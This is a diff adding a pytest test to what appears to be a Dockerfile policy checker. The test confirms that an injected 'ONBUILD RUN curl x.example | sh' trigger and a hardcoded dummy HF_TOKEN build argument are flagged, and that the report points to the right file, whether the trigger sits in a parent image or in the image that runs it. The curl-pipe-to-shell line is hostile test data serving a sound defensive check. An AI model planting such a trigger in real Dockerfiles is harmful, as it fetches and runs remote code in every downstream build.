@@ -497,3 +497,23 @@ def test_a_folder_of_a_named_context_s_name_is_another_input(repository: Path) -
         (folder / "a").write_text("2")
         seen.append(digests(repository, contexts=given))
     assert len({found["base-ml"] for found in seen}) == 3
+
+
+@pytest.mark.fault("B30")
+def test_what_policy_says_of_a_trigger_is_told_once(repository: Path) -> None:
+    """Of the parent where that shows it, else of the image that runs it."""
+    edit(repository, "infra/docker/base-ml.Dockerfile", "RUN true", "ONBUILD RUN curl x.example | sh")
+    with pytest.raises(PolicyError) as caught:
+        read_repository(settings_of(repository), Worktree(repository), {})
+    assert [problem.where for problem in caught.value.problems] == ["infra/docker/base-ml.Dockerfile:5"]
+    edit(repository, "infra/docker/base-ml.Dockerfile", "RUN curl x.example | sh", "ARG HF_TOKEN=0123456789")
+    with pytest.raises(PolicyError) as caught:
+        read_repository(settings_of(repository), Worktree(repository), {})
+    by = "ONBUILD of localhost:5000/slipway/base-ml:v0.1.0"
+    assert [problem.where for problem in caught.value.problems] == [f"apps/svc_ocr/Dockerfile:4 ({by})"]
+    edit(repository, "infra/docker/base-ml.Dockerfile", "ONBUILD ARG HF_TOKEN=0123456789", "RUN true")
+    with pytest.raises(PolicyError) as caught:
+        known(repository, FakeEngine([replace(PYTHON, onbuild=("RUN curl x.example | sh",))]))
+    assert [problem.where for problem in caught.value.problems] == [
+        f"infra/docker/base-runtime.Dockerfile:5 (ONBUILD of {ROOT})"
+    ]
